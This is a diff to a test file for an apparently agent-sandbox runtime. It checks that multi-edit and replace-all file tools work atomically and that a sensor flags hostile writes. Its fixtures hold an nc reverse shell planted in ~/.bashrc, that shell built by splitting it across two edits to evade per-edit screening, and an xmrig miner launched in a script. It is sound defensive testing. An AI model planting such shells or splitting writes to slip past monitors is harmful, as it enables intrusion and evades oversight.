@@ -1,9 +1,11 @@
-// Why: proves a session's file tools (write, read, str_replace, insert) work as an agent's editor
-// does, inside a real sandbox, as the agent: bytes round-trip exactly, a symlink the agent planted
-// cannot make Corral read or write a host file with root's rights, each operation is a tool call
-// with its own step and id in the event log, and a file tool is screened on what it writes (a
-// persistence place, a reverse shell in a shell start-up file, a miner in a script) — flagged, or
-// refused before anything is written when the policy blocks — while ordinary edits raise nothing.
+// Why: proves a session's file tools (write, read, str_replace also with replace_all, multi_edit,
+// insert) work as an agent's editor does, inside a real sandbox, as the agent: bytes round-trip
+// exactly, a multi_edit applies all its edits or none and names the one that failed, a symlink the
+// agent planted cannot make Corral read or write a host file with root's rights, each operation is a
+// tool call with its own step and id in the event log, and a file tool is screened on what it writes
+// (a persistence place, a reverse shell in a shell start-up file — also one a multi_edit assembles —,
+// a miner in a script) — flagged, or refused before anything is written when the policy blocks —
+// while ordinary edits raise nothing.
 // Real sandboxes, real processes, the kernel sensor on, inside the lab.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -79,6 +81,43 @@ test('file tools: write, read, str_replace and insert round-trip inside the sand
   }
 });
 
+test('file tools: a replace_all and a multi_edit edit as Claude Code\'s Edit and MultiEdit do, all edits or none, one tool call each', async () => {
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-multi' });
+  try {
+    assert.ok((await s.file({ op: 'write', path: 'cfg.py', content: 'a = 1\nb = 1\nc = 2\n', step: 1 })).ok);
+    const all = await s.file({ op: 'str_replace', path: 'cfg.py', old: '= 1', new: '= 10', replaceAll: true, step: 2, toolCallId: 'all-2' });
+    assert.ok(all.ok, all.problem);
+    assert.equal(all.size, 20);
+    // in order, each edit to the text the ones before it left (edit 2 removes what edit 1 wrote)
+    const me = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a = 10', new: 'a = 11 # QQ' }, { old: ' # QQ', new: '' }, { old: '= 10', new: '= 12', replaceAll: true }, { old: 'c = 2', new: 'c = 3' }], step: 3, toolCallId: 'me-3' });
+    assert.ok(me.ok, me.problem);
+    const cat = async (step: number): Promise<string> => (await s.exec({ command: 'cat cfg.py; stat -c %u cfg.py', step })).stdout;
+    assert.equal(await cat(4), 'a = 11\nb = 12\nc = 3\n65534\n', 'as the agent\'s own shell sees it, owned by the agent');
+    // one edit that does not apply: none is, and the problem names it (counted from 1) and why
+    const miss = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a = 11', new: 'a = 0' }, { old: 'nowhere', new: 'x' }], step: 5, toolCallId: 'me-5' });
+    assert.equal(miss.ok, false);
+    assert.equal(miss.exitCode, 5);
+    assert.equal(miss.problem, 'no edit was made (edit 2 of 2 failed): the old text does not appear verbatim in /workspace/cfg.py');
+    // an old text that is not unique, without replace_all, is refused — as one edit of several, or alone
+    const dup = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'c = 3', new: 'c = 4' }, { old: '= 1', new: '= 9' }], step: 6 });
+    assert.match(dup.problem ?? '', /^no edit was made \(edit 2 of 2 failed\): the old text appears 2 times in \/workspace\/cfg\.py \(lines 1, 2\); it must be unique$/);
+    const dupAll = await s.file({ op: 'str_replace', path: 'cfg.py', old: 'absent', new: 'x', replaceAll: true, step: 7 });
+    assert.match(dupAll.problem ?? '', /^no replacement: the old text does not appear verbatim in \/workspace\/cfg\.py$/);
+    assert.equal(await cat(8), 'a = 11\nb = 12\nc = 3\n65534\n', 'refused calls changed nothing');
+    // a bad request is refused before it runs, naming the edit
+    await assert.rejects(s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a', new: 'b' }, { old: '', new: 'x' }] }), /file call: edit 2 of 2: old must not be empty/);
+    await assert.rejects(s.file({ op: 'multi_edit', path: 'cfg.py', edits: [] }), /edits must be a non-empty list/);
+    await assert.rejects(s.file({ op: 'str_replace', path: 'cfg.py', old: 'a', new: 'b', replaceAll: 'yes' as unknown as boolean }), /replaceAll must be true or false/);
+    await s.exec({ command: 'true', step: 9, syncSensor: true });
+    assert.deepEqual(s.alertEvents.map((a) => a.payload.rule), [], 'ordinary edits raise nothing');
+  } finally { await s.close(); }
+  const starts = fx.rt.store.query({ episode: 'ft-multi', kind: ['toolcall.start'] });
+  const me = starts.find((ev) => ev.tool_call === 'me-3')!;
+  assert.deepEqual([me.payload.file_op, me.payload.edits, me.payload.command], ['multi_edit', 4, 'multi_edit in /workspace/cfg.py (4 edits)']);
+  const all = starts.find((ev) => ev.tool_call === 'all-2')!;
+  assert.deepEqual([all.payload.file_op, all.payload.replace_all, all.payload.command], ['str_replace', true, 'str_replace (every occurrence) in /workspace/cfg.py']);
+});
+
 test('file tools cannot reach host files through a symlink the agent planted: they run as the agent, in the sandbox', async () => {
   const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-link' });
   try {
@@ -106,6 +145,23 @@ test('file tools are screened on what they write: flagged by default, refused be
     const miner = await flag.file({ op: 'write', path: 'run.sh', content: '#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.test:3333 -u wallet &\n', step: 2, toolCallId: 'plant-2' });
     assert.ok(miner.alerts.some((a) => a.payload.category === 'mining'), `a miner parked in a script is seen: ${miner.alerts.map((a) => a.payload.rule)}`);
   } finally { await flag.close(); }
+
+  // A MultiEdit planting a reverse shell in ~/.bashrc is judged as a Write of what it leaves there: the
+  // same findings, though neither of its new texts is a reverse shell alone (`nc -QQ`, then QQ → e).
+  const findings = async (episode: string, plant: (s: Awaited<ReturnType<typeof fx.rt.createSession>>) => Promise<{ ok: boolean; problem?: string; alerts: { payload: { rule: unknown; category: unknown } }[] }>): Promise<string[]> => {
+    const s = await fx.rt.createSession({ policy: labPolicy(), episode });
+    try {
+      assert.ok((await s.file({ op: 'write', path: '.bashrc', content: '# rc\nalias ll="ls -l"\n', step: 1 })).ok);
+      const r = await plant(s);
+      assert.ok(r.ok, r.problem);
+      assert.equal((await s.file({ op: 'read', path: '.bashrc', step: 3 })).content?.toString(), 'nc -e /bin/sh 198.51.100.7 4444\nalias ll="ls -l"\n');
+      return [...new Set(r.alerts.map((a) => `${a.payload.category}:${a.payload.rule}`))].sort();
+    } finally { await s.close(); }
+  };
+  const byWrite = await findings('ft-rc-write', (s) => s.file({ op: 'write', path: '~/.bashrc', content: 'nc -e /bin/sh 198.51.100.7 4444\nalias ll="ls -l"\n', step: 2 }));
+  const byMulti = await findings('ft-rc-multi', (s) => s.file({ op: 'multi_edit', path: '~/.bashrc', edits: [{ old: '# rc', new: 'nc -QQ /bin/sh 198.51.100.7 4444' }, { old: 'QQ', new: 'e' }], step: 2 }));
+  assert.ok(byWrite.some((f) => f.startsWith('persistence:')) && byWrite.some((f) => f.startsWith('reverse_shell:')), `a Write of a reverse shell into ~/.bashrc: ${byWrite}`);
+  assert.deepEqual(byMulti, byWrite, 'the MultiEdit raises what the Write raises');
 
   const block = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'ft-block' });
   try {
